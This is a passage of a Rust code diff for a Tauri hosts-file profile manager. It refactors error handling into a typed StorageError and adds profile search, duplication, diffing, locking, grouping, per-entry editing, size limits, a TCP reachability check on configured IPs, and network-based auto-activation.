+pub fn save_window_config(app: AppHandle, mode: String, width: f64, height: f64) -> Result<(), StorageError> {
     save_window_config_internal(&Context::Tauri(&app), mode, width, height)
 }
 
-pub fn save_window_config_internal(ctx: &Context, mode: String, width: f64, height: f64) -> Result<(), String> {
+pub fn save_window_config_internal(ctx: &Context, mode: String, width: f64, height: f64) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
     config.window_mode = Some(mode);
     config.window_width = Some(width);
     config.window_height = Some(height);
-    save_config_internal(ctx, &config)
+    Ok(save_config_internal(ctx, &config)?)
 }
 
 #[tauri::command]
-pub fn save_sidebar_config(app: AppHandle, width: f64) -> Result<(), String> {
+pub fn save_sidebar_config(app: AppHandle, width: f64) -> Result<(), StorageError> {
     save_sidebar_config_internal(&Context::Tauri(&app), width)
 }
 
-pub fn save_sidebar_config_internal(ctx: &Context, width: f64) -> Result<(), String> {
+pub fn save_sidebar_config_internal(ctx: &Context, width: f64) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
     config.sidebar_width = Some(width);
-    save_config_internal(ctx, &config)
+    Ok(save_config_internal(ctx, &config)?)
 }
 
 #[tauri::command]
@@ -227,26 +933,42 @@ pub fn list_profiles(app: AppHandle) -> Result<Vec<ProfileData>, String> {
 pub fn list_profiles_internal(ctx: &Context) -> Result<Vec<ProfileData>, String> {
     let config = load_config_internal(ctx)?;
     let dir = get_profiles_dir(ctx)?;
-    
-    let mut profiles = Vec::new();
-    
-    for meta in config.profiles {
-        let path = dir.join(format!("{}.txt", meta.id));
-        let content = if path.exists() {
-             fs::read_to_string(&path).unwrap_or_default()
-        } else {
-             String::new()
-        };
-        
-        profiles.push(ProfileData {
-            id: meta.id,
-            name: meta.name,
-            content,
-            active: meta.active,
-        });
+    Ok(config.profiles.into_iter().map(|meta| load_profile_data(ctx, &dir, meta)).collect())
+}
+
+#[tauri::command]
+pub fn list_active_profiles(app: AppHandle) -> Result<Vec<ProfileData>, String> {
+    list_active_profiles_internal(&Context::Tauri(&app))
+}
+
+/// Like `list_profiles_internal`, but only reads the files of active profiles.
+/// Meant for frequently refreshed summaries.
+pub fn list_active_profiles_internal(ctx: &Context) -> Result<Vec<ProfileData>, String> {
+    let config = load_config_internal(ctx)?;
+    let dir = get_profiles_dir(ctx)?;
+    Ok(config
+        .profiles
+        .into_iter()
+        .filter(|meta| meta.active)
+        .map(|meta| load_profile_data(ctx, &dir, meta))
+        .collect())
+}
+
+fn load_profile_data(ctx: &Context, dir: &std::path::Path, meta: ProfileMetadata) -> ProfileData {
+    let content = read_profile_file(ctx, &dir.join(format!("{}.txt", meta.id))).unwrap_or_default();
+
+    ProfileData {
+        id: meta.id,
+        name: meta.name,
+        content,
+        active: meta.active,
+        description: meta.description,
+        group: meta.group,
+        created_at: meta.created_at,
+        updated_at: meta.updated_at,
+        locked: meta.locked,
+        activation_rule: meta.activation_rule,
     }
-    
-    Ok(profiles)
 }
 
 #[tauri::command]
@@ -255,9 +977,10 @@ pub fn create_profile(
     name: String,
     content: Option<String>,
     url: Option<String>,
-    update_interval: Option<u64>
-) -> Result<String, String> {
-    create_profile_internal(&Context::Tauri(&app), name, content, url, update_interval)
+    update_interval: Option<u64>,
+    description: Option<String>
+) -> Result<String, StorageError> {
+    create_profile_internal(&Context::Tauri(&app), name, content, url, update_interval, description)
 }
 
 pub fn create_profile_internal(
@@ -265,17 +988,19 @@ pub fn create_profile_internal(
     name: String,
     content: Option<String>,
     url: Option<String>,
-    update_interval: Option<u64>
-) -> Result<String, String> {
+    update_interval: Option<u64>,
+    description: Option<String>
+) -> Result<String, StorageError> {
     let mut config = load_config_internal(ctx)?;
     
     // Check for duplicate name
     if config.profiles.iter().any(|p| p.name == name) {
-        return Err("环境名称已存在 / Profile name already exists".to_string());
+        return Err(StorageError::DuplicateName { name });
     }
 
     let id = Uuid::new_v4().to_string();
     let initial_content = content.unwrap_or_default();
+    ensure_within_profile_limit(&config, &format!("Profile '{}'", name), &initial_content)?;
     save_profile_file_internal(ctx, &id, &initial_content)?;
     
     config.profiles.push(ProfileMetadata {
@@ -284,7 +1009,14 @@ pub fn create_profile_internal(
         active: false,
         url,
         last_update: None,
+        last_attempt: None,
         update_interval,
+        description,
+        group: None,
+        created_at: Some(chrono::Local::now().to_rfc3339()),
+        updated_at: None,
+        locked: false,
+        activation_rule: None,
     });
     
     save_config_internal(ctx, &config)?;
@@ -292,74 +1024,667 @@ pub fn create_profile_internal(
 }
 
 #[tauri::command]
-pub fn save_profile_content(app: AppHandle, id: String, content: String) -> Result<(), String> {
-    let ctx = Context::Tauri(&app);
-    save_profile_content_internal(&ctx, &id, &content)?;
-    
-    // If this profile is active, re-apply config to system hosts
-    let config = load_config_internal(&ctx)?;
-    if config.profiles.iter().any(|p| p.id == id && p.active) {
-        apply_config(app)?;
-    }
-    Ok(())
+pub fn search_profiles(app: AppHandle, query: String) -> Result<Vec<SearchHit>, String> {
+    search_profiles_internal(&Context::Tauri(&app), &query)
 }
 
-pub fn save_profile_content_internal(ctx: &Context, id: &str, content: &str) -> Result<(), String> {
-    save_profile_file_internal(ctx, id, content)
+/// Case-insensitive substring search over profile names and content, in profile order.
+pub fn search_profiles_internal(ctx: &Context, query: &str) -> Result<Vec<SearchHit>, String> {
+    let needle = query.to_lowercase();
+    let mut hits = Vec::new();
+
+    for p in list_profiles_internal(ctx)? {
+        if p.name.to_lowercase().contains(&needle) {
+            hits.push(SearchHit { profile_id: p.id.clone(), profile_name: p.name.clone(), line: None, text: p.name.clone() });
+        }
+        for (idx, line) in p.content.lines().enumerate() {
+            if line.to_lowercase().contains(&needle) {
+                hits.push(SearchHit {
+                    profile_id: p.id.clone(),
+                    profile_name: p.name.clone(),
+                    line: Some(idx + 1),
+                    text: line.to_string(),
+                });
+            }
+        }
+    }
+
+    Ok(hits)
 }
 
+/// Default port for `check_reachability`
+pub const DEFAULT_CHECK_PORT: u16 = 80;
+const CHECK_TIMEOUT: std::time::Duration = std::time::Duration::from_millis(1500);
+const CHECK_WORKERS: usize = 8;
+
 #[tauri::command]
-pub fn delete_profile(app: AppHandle, id: String) -> Result<(), String> {
-    delete_profile_internal(&Context::Tauri(&app), &id)
+pub fn check_reachability(app: AppHandle, port: Option<u16>) -> Result<Vec<ReachabilityResult>, String> {
+    check_reachability_internal(&Context::Tauri(&app), port.unwrap_or(DEFAULT_CHECK_PORT))
 }
 
-pub fn delete_profile_internal(ctx: &Context, id: &str) -> Result<(), String> {
-    let mut config = load_config_internal(ctx)?;
-    
-    // Remove from config
-    if let Some(idx) = config.profiles.iter().position(|p| p.id == id) {
-        config.profiles.remove(idx);
-        save_config_internal(ctx, &config)?;
-    }
-    
-    // Delete file
-    let dir = get_profiles_dir(ctx)?;
-    let path = dir.join(format!("{}.txt", id));
-    if path.exists() {
-        let _ = fs::remove_file(path);
+/// Tries a TCP connect to `port` on every IP that enabled entries of active profiles point
+/// at, one result per hostname. Each IP is probed once, on a small pool of threads with a
+/// short timeout, so a handful of dead hosts costs seconds rather than minutes.
+/// Unspecified addresses (0.0.0.0, ::) are blocks rather than targets and are skipped.
+pub fn check_reachability_internal(ctx: &Context, port: u16) -> Result<Vec<ReachabilityResult>, String> {
+    // (profile name, hostname, ip) in profile order
+    let mut targets: Vec<(String, String, String)> = Vec::new();
+    let config = load_config_internal(ctx)?;
+    let lookup = variable_lookup(&config);
+    for p in list_active_profiles_internal(ctx)? {
+        // Same order as the merge, so `${IP} host` lines probe the address apply writes
+        let content = crate::hosts::substitute_variables(&p.content, &lookup).unwrap_or(p.content);
+        let content = crate::hosts::expand_directives(&content).unwrap_or(content);
+        for entry in crate::hosts::parse_profile(&content) {
+            if entry.kind != crate::hosts::EntryKind::Host || !entry.enabled {
+                continue;
+            }
+            if entry.ip.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_unspecified()) {
+                continue;
+            }
+            for host in entry.hostnames {
+                targets.push((p.name.clone(), host, entry.ip.clone()));
+            }
+        }
     }
-    
-    Ok(())
+
+    let mut ips: Vec<&str> = targets.iter().map(|(_, _, ip)| ip.as_str()).collect();
+    ips.sort();
+    ips.dedup();
+
+    let next = std::sync::atomic::AtomicUsize::new(0);
+    let probes: std::sync::Mutex<std::collections::HashMap<&str, Result<u64, String>>> = Default::default();
+    std::thread::scope(|scope| {
+        for _ in 0..CHECK_WORKERS.min(ips.len()) {
+            scope.spawn(|| loop {
+                let idx = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+                let Some(ip) = ips.get(idx) else { break };
+                let outcome = probe_tcp(ip, port);
+                probes.lock().unwrap_or_else(|e| e.into_inner()).insert(ip, outcome);
+            });
+        }
+    });
+    let probes = probes.into_inner().unwrap_or_else(|e| e.into_inner());
+
+    Ok(targets
+        .iter()
+        .map(|(profile_name, hostname, ip)| {
+            let outcome = probes.get(ip.as_str()).cloned().unwrap_or_else(|| Err("not checked".to_string()));
+            ReachabilityResult {
+                profile_name: profile_name.clone(),
+                hostname: hostname.clone(),
+                ip: ip.clone(),
+                port,
+                reachable: outcome.is_ok(),
+                latency_ms: outcome.as_ref().ok().copied(),
+                error: outcome.err(),
+            }
+        })
+        .collect())
+}
+
+/// Milliseconds taken to open a TCP connection to `ip:port`.
+fn probe_tcp(ip: &str, port: u16) -> Result<u64, String> {
+    let addr: std::net::IpAddr = ip.parse().map_err(|_| format!("unsupported address '{}'", ip))?;
+    let started = std::time::Instant::now();
+    std::net::TcpStream::connect_timeout(&std::net::SocketAddr::new(addr, port), CHECK_TIMEOUT)
+        .map(|_| started.elapsed().as_millis() as u64)
+        .map_err(|e| match e.kind() {
+            std::io::ErrorKind::TimedOut | std::io::ErrorKind::WouldBlock => "timed out".to_string(),
+            _ => e.to_string(),
+        })
 }
 
 #[tauri::command]
-pub fn rename_profile(app: AppHandle, id: String, new_name: String) -> Result<(), String> {
-    rename_profile_internal(&Context::Tauri(&app), &id, new_name)
+pub fn duplicate_profile(app: AppHandle, id: String, new_name: String) -> Result<String, StorageError> {
+    duplicate_profile_internal(&Context::Tauri(&app), &id, new_name)
 }
 
-pub fn rename_profile_internal(ctx: &Context, id: &str, new_name: String) -> Result<(), String> {
-    let mut config = load_config_internal(ctx)?;
-    
-    // Check for duplicate name (excluding itself)
+/// Copies a profile's content, description and group under a new name.
+/// The copy starts inactive so the hosts file is unaffected.
+pub fn duplicate_profile_internal(ctx: &Context, id: &str, new_name: String) -> Result<String, StorageError> {
+    let config = load_config_internal(ctx)?;
+    let source = config.profiles.iter().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    let (description, group) = (source.description.clone(), source.group.clone());
+
+    let content = read_profile_content_internal(ctx, id)?;
+    let new_id = create_profile_internal(ctx, new_name, Some(content), None, None, description)?;
+    if group.is_some() {
+        set_profile_group_internal(ctx, &new_id, group)?;
+    }
+    Ok(new_id)
+}
+
+#[tauri::command]
+pub fn diff_profiles(app: AppHandle, id_a: String, id_b: String) -> Result<Vec<EntryDiff>, StorageError> {
+    diff_profiles_internal(&Context::Tauri(&app), &id_a, &id_b)
+}
+
+/// Compares the enabled entries of two profiles by hostname, sorted by hostname.
+/// Within one profile a repeated hostname resolves to its last definition.
+pub fn diff_profiles_internal(ctx: &Context, id_a: &str, id_b: &str) -> Result<Vec<EntryDiff>, StorageError> {
+    let config = load_config_internal(ctx)?;
+    for id in [id_a, id_b] {
+        if !config.profiles.iter().any(|p| p.id == id) {
+            return Err(StorageError::ProfileNotFound { id: id.to_string() });
+        }
+    }
+
+    let mappings = |id: &str| -> Result<std::collections::BTreeMap<String, String>, String> {
+        let mut map = std::collections::BTreeMap::new();
+        for entry in crate::hosts::parse_profile(&read_profile_content_internal(ctx, id)?) {
+            if entry.kind == crate::hosts::EntryKind::Host && entry.enabled {
+                for hostname in entry.hostnames {
+                    map.insert(hostname.to_lowercase(), entry.ip.clone());
+                }
+            }
+        }
+        Ok(map)
+    };
+    let a = mappings(id_a)?;
+    let b = mappings(id_b)?;
+
+    let mut diffs = Vec::new();
+    for hostname in a.keys().chain(b.keys()).collect::<std::collections::BTreeSet<_>>() {
+        let (ip_a, ip_b) = (a.get(hostname), b.get(hostname));
+        let kind = match (ip_a, ip_b) {
+            (Some(_), None) => EntryDiffKind::OnlyInA,
+            (None, Some(_)) => EntryDiffKind::OnlyInB,
+            (Some(x), Some(y)) if x != y => EntryDiffKind::IpChanged,
+            _ => continue,
+        };
+        diffs.push(EntryDiff { kind, hostname: hostname.clone(), ip_a: ip_a.cloned(), ip_b: ip_b.cloned() });
+    }
+    Ok(diffs)
+}
+
+#[tauri::command]
+pub fn save_profile_content(app: AppHandle, id: String, content: String) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    save_profile_content_internal(&ctx, &id, &content)?;
+    
+    // If this profile is active, re-apply config to system hosts
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Same as `save_profile_content`, but also returns non-fatal warnings about the content
+/// (duplicate hostnames, invalid lines). The content is saved either way.
+#[tauri::command]
+pub fn save_profile_content_checked(app: AppHandle, id: String, content: String) -> Result<Vec<String>, StorageError> {
+    let warnings = crate::hosts::lint_profile(&content);
+    save_profile_content(app, id, content)?;
+    Ok(warnings)
+}
+
+pub fn save_profile_content_internal(ctx: &Context, id: &str, content: &str) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    ensure_unlocked(&config, id)?;
+    let name = config.profiles.iter().find(|p| p.id == id).map(|p| p.name.as_str()).unwrap_or(id);
+    ensure_within_profile_limit(&config, &format!("Profile '{}'", name), content)?;
+
+    save_profile_file_internal(ctx, id, content)?;
+
+    if let Some(p) = config.profiles.iter_mut().find(|p| p.id == id) {
+        p.updated_at = Some(chrono::Local::now().to_rfc3339());
+    }
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+/// Reads a profile's content, treating a missing file as empty.
+pub fn read_profile_content_internal(ctx: &Context, id: &str) -> Result<String, String> {
+    let path = get_profiles_dir(ctx)?.join(format!("{}.txt", id));
+    read_profile_file(ctx, &path).map_err(|e| e.to_string())
+}
+
+#[tauri::command]
+pub fn toggle_entry(app: AppHandle, id: String, line_index: usize) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    toggle_entry_internal(&ctx, &id, line_index)?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Comments out (or restores) the host entry at `line_index` within a profile.
+pub fn toggle_entry_internal(ctx: &Context, id: &str, line_index: usize) -> Result<(), StorageError> {
+    let content = read_profile_content_internal(ctx, id)?;
+    let mut entries = crate::hosts::parse_profile(&content);
+
+    let entry = entries
+        .get_mut(line_index)
+        .ok_or(StorageError::LineOutOfRange { line: line_index })?;
+    if entry.kind != crate::hosts::EntryKind::Host {
+        return Err(StorageError::NotHostEntry { line: line_index });
+    }
+    entry.enabled = !entry.enabled;
+
+    save_profile_content_internal(ctx, id, &crate::hosts::serialize_profile(&entries))
+}
+
+#[tauri::command]
+pub fn set_entry_ip(app: AppHandle, id: String, hostname: String, new_ip: String) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    set_entry_ip_internal(&ctx, &id, &hostname, &new_ip)?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Repoints `hostname` to `new_ip` within a profile. If the hostname shares a line with
+/// others, it's split onto its own line right below so the rest keep their IP.
+pub fn set_entry_ip_internal(ctx: &Context, id: &str, hostname: &str, new_ip: &str) -> Result<(), StorageError> {
+    if !crate::hosts::is_valid_ip(new_ip) {
+        return Err(StorageError::InvalidIp { ip: new_ip.to_string() });
+    }
+
+    let content = read_profile_content_internal(ctx, id)?;
+    let mut entries = crate::hosts::parse_profile(&content);
+    let idx = find_host_entry(&entries, hostname)?;
+
+    let entry = &mut entries[idx];
+    if entry.hostnames.len() == 1 {
+        entry.ip = new_ip.to_string();
+    } else {
+        let pos = entry.hostnames.iter().position(|h| h.eq_ignore_ascii_case(hostname)).unwrap_or(0);
+        let mut split = entry.clone();
+        split.ip = new_ip.to_string();
+        split.hostnames = vec![entry.hostnames.remove(pos)];
+        split.comment = None;
+        split.raw = String::new();
+        entries.insert(idx + 1, split);
+    }
+
+    save_profile_content_internal(ctx, id, &crate::hosts::serialize_profile(&entries))
+}
+
+#[tauri::command]
+pub fn set_entry_comment(app: AppHandle, id: String, hostname: String, comment: Option<String>) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    set_entry_comment_internal(&ctx, &id, &hostname, comment.as_deref())?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Sets the trailing `# ...` label of the entry defining `hostname`; None or blank removes it.
+/// The label applies to the whole line, so it is shared with any other hostnames on it.
+pub fn set_entry_comment_internal(ctx: &Context, id: &str, hostname: &str, comment: Option<&str>) -> Result<(), StorageError> {
+    let content = read_profile_content_internal(ctx, id)?;
+    let mut entries = crate::hosts::parse_profile(&content);
+    let idx = find_host_entry(&entries, hostname)?;
+
+    // A label has to stay on the entry's line
+    let comment = comment
+        .map(|c| c.split_whitespace().collect::<Vec<_>>().join(" "))
+        .filter(|c| !c.is_empty());
+    entries[idx].comment = comment;
+
+    save_profile_content_internal(ctx, id, &crate::hosts::serialize_profile(&entries))
+}
+
+/// Index of the single host entry (enabled or not) that defines `hostname`.
+fn find_host_entry(entries: &[crate::hosts::HostEntry], hostname: &str) -> Result<usize, StorageError> {
+    let matches: Vec<usize> = entries
+        .iter()
+        .enumerate()
+        .filter(|(_, e)| {
+            e.kind == crate::hosts::EntryKind::Host && e.hostnames.iter().any(|h| h.eq_ignore_ascii_case(hostname))
+        })
+        .map(|(idx, _)| idx)
+        .collect();
+    match matches.as_slice() {
+        [] => Err(StorageError::HostnameNotFound { hostname: hostname.to_string() }),
+        [idx] => Ok(*idx),
+        _ => Err(StorageError::AmbiguousHostname {
+            hostname: hostname.to_string(),
+            lines: matches.iter().map(|i| i + 1).collect(),
+        }),
+    }
+}
+
+#[tauri::command]
+pub fn move_entry(app: AppHandle, from_id: String, to_id: String, hostname: String) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    move_entry_internal(&ctx, &from_id, &to_id, &hostname)?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| (p.id == from_id || p.id == to_id) && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Moves `hostname` out of one profile and appends it to another. If it shares a line
+/// with other hostnames only it moves, keeping the IP and enabled state.
+/// Both contents are built and checked before either file is written.
+pub fn move_entry_internal(ctx: &Context, from_id: &str, to_id: &str, hostname: &str) -> Result<(), StorageError> {
+    use crate::hosts::{parse_profile, serialize_profile};
+
+    if from_id == to_id {
+        return Err(StorageError::SameProfile);
+    }
+    let config = load_config_internal(ctx)?;
+    for id in [from_id, to_id] {
+        if !config.profiles.iter().any(|p| p.id == id) {
+            return Err(StorageError::ProfileNotFound { id: id.to_string() });
+        }
+        ensure_unlocked(&config, id)?;
+    }
+
+    let mut source = parse_profile(&read_profile_content_internal(ctx, from_id)?);
+    let idx = find_host_entry(&source, hostname)?;
+    let mut moved = source[idx].clone();
+    if moved.hostnames.len() == 1 {
+        source.remove(idx);
+    } else {
+        let pos = moved.hostnames.iter().position(|h| h.eq_ignore_ascii_case(hostname)).unwrap_or(0);
+        moved.hostnames = vec![source[idx].hostnames.remove(pos)];
+        moved.comment = None;
+    }
+    moved.raw = String::new();
+
+    let mut target = parse_profile(&read_profile_content_internal(ctx, to_id)?);
+    // Keep the trailing newline (the final blank entry) last
+    let at = match target.last() {
+        Some(last) if last.kind == crate::hosts::EntryKind::Blank && target.len() > 1 => target.len() - 1,
+        _ => target.len(),
+    };
+    target.insert(at, moved);
+
+    let (source, target) = (serialize_profile(&source), serialize_profile(&target));
+    for (id, content) in [(from_id, &source), (to_id, &target)] {
+        let name = config.profiles.iter().find(|p| p.id == id).map(|p| p.name.as_str()).unwrap_or(id);
+        ensure_within_profile_limit(&config, &format!("Profile '{}'", name), content)?;
+    }
+
+    save_profile_content_internal(ctx, to_id, &target)?;
+    save_profile_content_internal(ctx, from_id, &source)
+}
+
+#[tauri::command]
+pub fn set_all_entries_enabled(app: AppHandle, id: String, enabled: bool) -> Result<usize, StorageError> {
+    let ctx = Context::Tauri(&app);
+    let changed = set_all_entries_enabled_internal(&ctx, &id, enabled)?;
+
+    let config = load_config_internal(&ctx)?;
+    if changed > 0 && config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(changed)
+}
+
+/// Comments out (or back in) every host entry of a profile while it stays in the merge.
+/// Comments and blank lines are left alone. Returns how many entries changed.
+pub fn set_all_entries_enabled_internal(ctx: &Context, id: &str, enabled: bool) -> Result<usize, StorageError> {
+    let config = load_config_internal(ctx)?;
+    if !config.profiles.iter().any(|p| p.id == id) {
+        return Err(StorageError::ProfileNotFound { id: id.to_string() });
+    }
+
+    let content = read_profile_content_internal(ctx, id)?;
+    let mut entries = crate::hosts::parse_profile(&content);
+    let mut changed = 0;
+    for entry in entries.iter_mut().filter(|e| e.kind == crate::hosts::EntryKind::Host) {
+        if entry.enabled != enabled {
+            entry.enabled = enabled;
+            changed += 1;
+        }
+    }
+
+    if changed > 0 {
+        save_profile_content_internal(ctx, id, &crate::hosts::serialize_profile(&entries))?;
+    }
+    Ok(changed)
+}
+
+#[tauri::command]
+pub fn delete_profile(app: AppHandle, id: String) -> Result<(), StorageError> {
+    delete_profile_internal(&Context::Tauri(&app), &id)
+}
+
+pub fn delete_profile_internal(ctx: &Context, id: &str) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    ensure_unlocked(&config, id)?;
+    
+    // Remove from config
+    if let Some(idx) = config.profiles.iter().position(|p| p.id == id) {
+        config.profiles.remove(idx);
+        save_config_internal(ctx, &config)?;
+    }
+    
+    // Delete file
+    let dir = get_profiles_dir(ctx)?;
+    let path = dir.join(format!("{}.txt", id));
+    forget_cached_profile(&path);
+    if path.exists() {
+        let _ = fs::remove_file(path);
+    }
+    
+    Ok(())
+}
+
+fn ensure_within_profile_limit(config: &AppConfig, what: &str, content: &str) -> Result<(), StorageError> {
+    let limit = config.max_profile_bytes.unwrap_or(DEFAULT_MAX_PROFILE_BYTES);
+    if content.len() > limit {
+        return Err(StorageError::TooLarge { what: what.to_string(), size: content.len(), limit, setting: "max_profile_bytes" });
+    }
+    Ok(())
+}
+
+fn ensure_unlocked(config: &AppConfig, id: &str) -> Result<(), StorageError> {
+    match config.profiles.iter().find(|p| p.id == id) {
+        Some(p) if p.locked => Err(StorageError::ProfileLocked { name: p.name.clone() }),
+        _ => Ok(()),
+    }
+}
+
+#[tauri::command]
+pub fn set_profile_locked(app: AppHandle, id: String, locked: bool) -> Result<(), StorageError> {
+    set_profile_locked_internal(&Context::Tauri(&app), &id, locked)
+}
+
+pub fn set_profile_locked_internal(ctx: &Context, id: &str, locked: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    let p = config.profiles.iter_mut().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    p.locked = locked;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn canonicalize_profile(app: AppHandle, id: String, sort: Option<bool>) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    let changed = canonicalize_profile_internal(&ctx, &id, sort.unwrap_or(false))?;
+
+    let config = load_config_internal(&ctx)?;
+    if changed && config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+/// Rewrites a profile through `canonicalize_content`. Returns whether anything changed;
+/// an already tidy profile isn't written (nor its `updated_at` bumped).
+pub fn canonicalize_profile_internal(ctx: &Context, id: &str, sort: bool) -> Result<bool, StorageError> {
+    let content = read_profile_content_internal(ctx, id)?;
+    let tidy = crate::hosts::canonicalize_content(&content, sort);
+    if tidy == content {
+        return Ok(false);
+    }
+    save_profile_content_internal(ctx, id, &tidy)?;
+    Ok(true)
+}
+
+#[tauri::command]
+pub fn rename_profile(app: AppHandle, id: String, new_name: String) -> Result<(), StorageError> {
+    rename_profile_internal(&Context::Tauri(&app), &id, new_name)
+}
+
+pub fn rename_profile_internal(ctx: &Context, id: &str, new_name: String) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    ensure_unlocked(&config, id)?;
+    
+    // Check for duplicate name (excluding itself)
     if config.profiles.iter().any(|p| p.name == new_name && p.id != id) {
-        return Err("环境名称已存在 / Profile name already exists".to_string());
+        return Err(StorageError::DuplicateName { name: new_name });
     }
 
     if let Some(idx) = config.profiles.iter().position(|p| p.id == id) {
         config.profiles[idx].name = new_name;
+        config.profiles[idx].updated_at = Some(chrono::Local::now().to_rfc3339());
         save_config_internal(ctx, &config)?;
     }
     Ok(())
 }
 
 #[tauri::command]
-pub fn toggle_profile_active(app: AppHandle, id: String) -> Result<(), String> {
+pub fn set_profile_group(app: AppHandle, id: String, group: Option<String>) -> Result<(), StorageError> {
+    set_profile_group_internal(&Context::Tauri(&app), &id, group)
+}
+
+pub fn set_profile_group_internal(ctx: &Context, id: &str, group: Option<String>) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+
+    let profile = config.profiles.iter_mut().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    // Empty group name means ungrouped
+    profile.group = group.filter(|g| !g.trim().is_empty());
+
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn move_profile(app: AppHandle, id: String, new_index: usize) -> Result<(), StorageError> {
+    let ctx = Context::Tauri(&app);
+    move_profile_internal(&ctx, &id, new_index)?;
+
+    // Order decides merge precedence, so re-apply if the moved profile is live
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(())
+}
+
+pub fn move_profile_internal(ctx: &Context, id: &str, new_index: usize) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+
+    if new_index >= config.profiles.len() {
+        return Err(StorageError::IndexOutOfBounds { index: new_index, len: config.profiles.len() });
+    }
+
+    let idx = config.profiles.iter().position(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    let profile = config.profiles.remove(idx);
+    config.profiles.insert(new_index, profile);
+
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_profile_description(app: AppHandle, id: String, description: String) -> Result<(), StorageError> {
+    set_profile_description_internal(&Context::Tauri(&app), &id, description)
+}
+
+pub fn set_profile_description_internal(ctx: &Context, id: &str, description: String) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+
+    let profile = config.profiles.iter_mut().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    // Clearing the text removes the note entirely
+    profile.description = if description.trim().is_empty() { None } else { Some(description) };
+
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_activation_rule(app: AppHandle, id: String, rule: Option<ActivationRule>) -> Result<(), StorageError> {
+    set_activation_rule_internal(&Context::Tauri(&app), &id, rule)
+}
+
+pub fn set_activation_rule_internal(ctx: &Context, id: &str, rule: Option<ActivationRule>) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+
+    let profile = config.profiles.iter_mut().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    // Blank fields would never match; a rule with none left is no rule
+    let rule = rule.map(|r| ActivationRule {
+        ssid: r.ssid.filter(|s| !s.trim().is_empty()),
+        gateway_mac: r.gateway_mac.filter(|m| !m.trim().is_empty()),
+    });
+    profile.activation_rule = rule.filter(|r| r.ssid.is_some() || r.gateway_mac.is_some());
+
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub async fn auto_activate(app: AppHandle) -> Result<Vec<String>, String> {
+    let network = crate::hosts::current_network().await?;
+    let changed = auto_activate_internal(&Context::Tauri(&app), &network)?;
+    if !changed.is_empty() {
+        apply_config(app)?;
+    }
+    Ok(changed)
+}
+
+/// Switches on the profiles whose activation rule matches `network`, returning the names of
+/// those that weren't on already. Nothing is switched off for not matching. In single-select
+/// mode only the first matching profile is used and it replaces whatever was active.
+/// Only the config is written; the caller applies.
+pub fn auto_activate_internal(ctx: &Context, network: &crate::hosts::NetworkInfo) -> Result<Vec<String>, String> {
+    let mut config = load_config_internal(ctx)?;
+
+    let mut matching: Vec<usize> = config
+        .profiles
+        .iter()
+        .enumerate()
+        .filter(|(_, p)| p.activation_rule.as_ref().is_some_and(|r| r.matches(network)))
+        .map(|(idx, _)| idx)
+        .collect();
+    if !config.multi_select {
+        matching.truncate(1);
+    }
+
+    let changed: Vec<String> = matching
+        .iter()
+        .filter(|idx| !config.profiles[**idx].active)
+        .map(|idx| config.profiles[*idx].name.clone())
+        .collect();
+    if changed.is_empty() {
+        return Ok(changed);
+    }
+
+    if !config.multi_select {
+        for p in &mut config.profiles {
+            p.active = false;
+        }
+    }
+    for idx in matching {
+        config.profiles[idx].active = true;
+    }
+    save_config_internal(ctx, &config)?;
+    Ok(changed)
+}
+
+#[tauri::command]
+pub fn toggle_profile_active(app: AppHandle, id: String) -> Result<(), StorageError> {
